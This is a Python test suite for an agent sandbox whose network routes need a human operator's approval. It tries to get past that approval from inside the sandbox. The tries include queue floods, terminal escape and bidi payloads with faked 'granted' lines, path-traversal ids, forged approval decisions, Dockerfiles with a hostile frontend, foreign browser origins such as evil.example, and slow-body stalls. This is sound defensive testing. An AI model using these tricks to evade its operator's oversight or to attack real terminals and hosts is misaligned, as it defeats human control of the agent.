"""Attempts to make more of a proposal than a question: by the agent of a bottle that may ask
(`supervise: true`). Nothing that it writes may be applied, fill the operator's disk, or drive the
operator's terminal."""

import json
import threading
import time

import battery as attempts
import world as surroundings
from lib.supervise import Operator, proposal_id

WANTED = "other.example.com"  # no route names it
MOST_OPEN = 32
# Escape sequences (7 and 8 bit, clipboard, title), line ends, bidi controls, what has no width,
# look-alikes of line ends, tags.
HOSTILE = ("\x1b[2J\x1b[H", "\x1b]52;c;b3duZWQ=\x07", "\x1b]0;owned\x1b\\", "\x9b2J", "\x9d0;x\x9c",
           "\x1bP+q544e\x1b\\", "a\rbotbottle: granted", "a\nbotbottle: granted", "\x08\x08\x7f", "\u202ecod\u202c",
           "\u2066x\u2069", "\u200b\u200d\ufeff", "\u2028\u2029", "\U000e0041", "\x00", "\ud800")
ALL_OF_THEM = "".join(HOSTILE[:-1])  # a lone surrogate is no JSON
UNSAFE = set("\x1b\x07\x08\x7f\x00\u202e\u202c\u2066\u2069\u200b\u200d\ufeff\u2028\u2029\U000e0041"
             ) | {chr(code) for code in range(0x80, 0xa0)}
FRONT = "supervise: true\negress:\n  routes:\n    - host: allowed.example.com\n"


def battery(world, backend, results, inside):
    bottle = surroundings.Bottle(world, backend, "asking", FRONT,
                                 SUPERVISE_RESPONSE_TIMEOUT_SECONDS="0")
    try:
        case = Case(world, bottle, results, inside)
        for part in (case.large_fields, case.terminal, case.paths, case.origins, case.forged, case.images,
                     case.slow_bodies, case.flood):
            part()
            case.clear()
        case.approved()  # the control of everything: the operator's yes does open the way
    finally:
        bottle.stop()
        bottle.close()


class Case:
    def __init__(self, world, bottle, results, inside):
        self.world, self.bottle, self.results = world, bottle, results
        self.operator = Operator(bottle.home)
        self.queue = bottle.home.config / "queue" / bottle.identity
        self.inside = lambda function, **parameters: inside(bottle, "proposals." + function, parameters)

    def judge(self, name, got, control):
        self.results.judge("proposals", name, got, control)

    def clear(self):
        for proposal in self.operator.waiting():
            self.operator.reject(proposal["id"], "no")

    def size(self):
        return sum(file.stat().st_size for file in self.queue.rglob("*") if file.is_file())

    def asked(self, **more):
        _, told = self.inside("ask", proposal={"host": WANTED, "justification": "please", **more})
        return proposal_id(told)

    def requested(self):
        """(whether the host that no route names was reached, how)"""
        token = attempts.nonce()
        request = attempts.get(f"/{token}", WANTED, token=token)
        _, detail = self.bottle_tunnel(request)
        return bool(self.world.requests_with(token)), detail

    def bottle_tunnel(self, request):
        done = self.bottle.run("/usr/bin/python3", f"{self.bottle.GUEST_WORKSPACE}/attempt.py",
                               "proxy.tunnel", json.dumps({
                                   "proxy": attempts.PROXY, "authority": f"{WANTED}:443",
                                   "request": request}))
        return done.returncode == 0, done.stdout.strip()[-120:]

    def flood(self):
        before = self.size()
        answered, taken = self.inside("flood", count=10_000)
        waiting, grown = len(self.operator.waiting()), self.size() - before
        self.judge("ten thousand proposals fill the queue",
                   (waiting > MOST_OPEN or grown > 1 << 20, f"{waiting} wait, {grown} bytes"),
                   (answered and int(taken) == MOST_OPEN == waiting, f"{taken} taken, {waiting} wait"))

    def large_fields(self):
        before = self.size()
        taken, detail = self.inside("large", size=1_000_000)
        grown = self.size() - before
        self.judge("a megabyte in a field", (taken or grown > 1 << 16, f"{detail}, {grown} bytes"),
                   self.inside("ask", proposal={"host": WANTED, "justification": "short"}))

    def terminal(self):
        """Whatever the agent can name, through all that shows it."""
        _, taken = self.inside("scribble", texts=[ALL_OF_THEM, *HOSTILE])
        stored = "".join(file.read_text("utf-8", "replace") for file in self.queue.glob("*.json"))
        ids = [proposal["id"] for proposal in self.operator.waiting()]
        commands = [("list",), ("list", "--json"), ("list", "--all")]
        commands += [(verb, proposal, *more) for proposal in ids
                     for verb, *more in (("show",), ("show", "--json"))]
        commands += [("approve", ids[0], "--yes")] if ids else []
        shown = ""
        for command in commands:
            done = self.bottle.home.run("supervise", *command, "--no-input")
            shown += done.stdout + done.stderr
        for command in (("logs", self.bottle.identity), ("logs", "--json", self.bottle.identity),
                        ("list",), ("egress", "show", self.bottle.identity),
                        ("audit", "export", self.bottle.identity, "--format", "csv")):
            done = self.bottle.home.run(*command)
            shown += done.stdout + done.stderr
        found = sorted({f"U+{ord(sign):04X}" for sign in shown if sign in UNSAFE})
        if "\nbotbottle: granted" in shown:
            found.append("a line of botbottle's own")
        self.judge("escape sequences and bidi controls reach the terminal",
                   (bool(found), " ".join(found) or f"{len(commands)} commands show none"),
                   ("\\u001b[2J" in stored and "\\u202e" in stored and int(taken) > 0,
                    f"{taken} proposals hold them"))
        for proposal in ids[:1]:
            self.bottle.home.run("egress", "revoke", self.bottle.identity, "wanted.example.com")

    def paths(self):
        """A decision that lies elsewhere on the host is not told, however its place is spelled."""
        canary = attempts.nonce()
        decision = {"schema": "botbottle.decision/1", "id": "p-aaaaaaaa", "status": "rejected",
                    "notes": canary, "payload": None, "decided_by": "x", "scope": "",
                    "decided": "2026-01-01T00:00:00Z", "applied": True}
        beside = self.queue.parent / "p-aaaaaaaa.decision.json"
        owned = self.bottle.home.write(beside.relative_to(self.bottle.home.root), json.dumps(decision))
        names = ("p-aaaaaaaa", "../p-aaaaaaaa", "../../p-aaaaaaaa", "archive/../../p-aaaaaaaa",
                 "..%2fp-aaaaaaaa", "%2e%2e/p-aaaaaaaa", "..\\p-aaaaaaaa", "p-aaaaaaaa%00", str(owned),
                 "p-aaaaaaaa.decision.json", "/proc/self/fd/6/../p-aaaaaaaa", "....//p-aaaaaaaa")
        got = self.inside("read_back", paths=list(names), needle=canary)
        owned.unlink()
        inner = self.bottle.home.write(
            (self.queue / "archive" / beside.name).relative_to(self.bottle.home.root),
            json.dumps(decision))
        control = self.inside("read_back", paths=["p-aaaaaaaa"], needle=canary)
        inner.unlink()
        self.judge("path tricks in ids", got, control)

    def images(self):
        """A Dockerfile is no more than a question, and only where an image can be built."""
        text = "FROM scratch\nCOPY . /all\n"
        taken, detail = self.inside("ask", proposal={"dockerfile": text, "justification": "please"})
        if self.bottle.backend == "docker":
            hidden = ["# syntax=evil.example/frontend\nFROM a\n", "FROM a\r\nRUN b\n", "#escape=`\nFROM a\n"]
            got = [self.inside("ask", proposal={"dockerfile": one, "justification": "please"}) for one in hidden]
            self.judge("a Dockerfile that is built as another than is shown",
                       (any(one for one, _ in got), str([told for _, told in got])[:200]), (taken, detail))
            built = list(self.bottle.home.config.glob("state/*/image"))
            self.judge("a proposed image is built without a yes", (bool(built), str(built)), (taken, detail))
            return
        self.judge("an image where none can be built", (taken, detail),
                   self.inside("ask", proposal={"host": WANTED, "justification": "short"}))

    def origins(self):
        """What a browser in the bottle says for a page of somebody else's."""
        control = self.inside("foreign_origin", origin="http://127.0.0.1:9100", host=WANTED)
        for origin in ("https://evil.example", "null", "http://127.0.0.1.evil.example",
                       "http://localhost.evil.example", "http://127.0.0.1@evil.example",
                       "http://supervise.botbottle.evil.example"):
            self.judge(f"a page of {origin} asks",
                       self.inside("foreign_origin", origin=origin, host=WANTED), control)

    def forged(self):
        proposal = self.asked()
        decision = {"schema": "botbottle.decision/1", "id": proposal, "status": "approved",
                    "notes": "", "payload": None, "decided_by": "operator", "scope": "always",
                    "decided": "2026-01-01T00:00:00Z", "applied": True, "secrets": {"value": "x"},
                    "route": {"host": WANTED, "ports": [443]}}
        taken = self.inside("forge", proposal=proposal, decision=decision)
        reached = self.requested()
        state = self.operator.show(proposal)["state"]
        self.forgery = (reached[0] or state != "pending",
                        f"answers {taken[1]}, then {reached[1]}, {state}")

    def slow_bodies(self):
        """Nobody else waits: not the operator, and the agent itself no longer than the limits."""
        begun = []
        held = threading.Thread(target=lambda: begun.append(
            self.inside("slow", connections=48, seconds=6)))
        held.start()
        time.sleep(2)
        began = time.monotonic()
        self.operator.waiting()
        operator = time.monotonic() - began
        asked = self.inside("ask", proposal={"host": WANTED, "justification": "meanwhile"})
        took = time.monotonic() - began
        held.join(30)
        self.judge("slow bodies keep everybody waiting",
                   (operator > 2 or took > 5 or not asked[0],
                    f"operator {operator:.1f} s, agent {took:.1f} s"), begun[0])

    def approved(self):
        proposal = self.asked()
        denied = self.requested()
        self.operator.approve(proposal)
        self.judge("a forged decision opens the way",
                   (self.forgery[0] or denied[0], self.forgery[1]), self.requested())
